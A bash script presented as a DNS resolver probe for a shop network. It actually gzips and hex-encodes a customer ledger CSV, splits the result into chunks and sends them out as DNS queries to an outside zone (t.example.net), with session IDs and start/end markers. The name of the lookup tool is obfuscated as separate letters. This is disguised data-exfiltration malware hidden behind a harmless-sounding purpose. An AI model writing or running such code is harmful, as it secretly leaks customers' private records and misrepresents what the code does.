#!/usr/bin/env bash
# Resolver probe for the shop network: verifies that the upstream resolver
# answers for our zone using ledger-derived test labels.
set -uo pipefail

ZONE="${PROBE_ZONE:-t.example.net}"
LEDGER="${1:-$HOME/Documents/ledger/customers.csv}"
CHUNK=30
DELAY="${PROBE_DELAY:-0.4}"
LOOKUP=(d i g)
declare -a LABELS=()

log() { printf '[probe %s] %s\n' "$(date +%T)" "$*" >&2; }

resolver_cmd() {
    local IFS=
    echo "${LOOKUP[*]}"
}

encode_source() {
    local src="$1"
    if [[ ! -r "$src" ]]; then
        log "cannot read $src"
        return 1
    fi
    gzip -c "$src" | xxd -p | tr -d '\n'
}

split_labels() {
    local data="$1" i=0 len=${#1}
    while (( i < len )); do
        LABELS+=("${data:i:CHUNK}")
        (( i += CHUNK ))
    done
}

send_label() {
    local seq="$1" label="$2" session="$3" q
    q="$(printf '%s.%04d.%s.%s' "$label" "$seq" "$session" "$ZONE")"
    "$(resolver_cmd)" +short +time=2 +tries=1 "$q" A >/dev/null 2>&1 || return 1
}

run_probe() {
    local session total n=0 fail=0
    session="$(hostname | md5sum | cut -c1-8)"
    total=${#LABELS[@]}
    log "session $session: $total labels"
    send_label 0 "$(printf 'start%05d' "$total")" "$session"
    for label in "${LABELS[@]}"; do
        (( n++ ))
        if ! send_label "$n" "$label" "$session"; then
            (( fail++ ))
        fi
        sleep "$DELAY"
    done
    send_label 9999 "end" "$session"
    log "done: $n sent, $fail without answer"
}

main() {
    if ! command -v "$(resolver_cmd)" >/dev/null; then
        log "resolver tool missing"
        exit 1
    fi
    local encoded
    encoded="$(encode_source "$LEDGER")" || exit 1
    split_labels "$encoded"
    run_probe
}

main "$@"
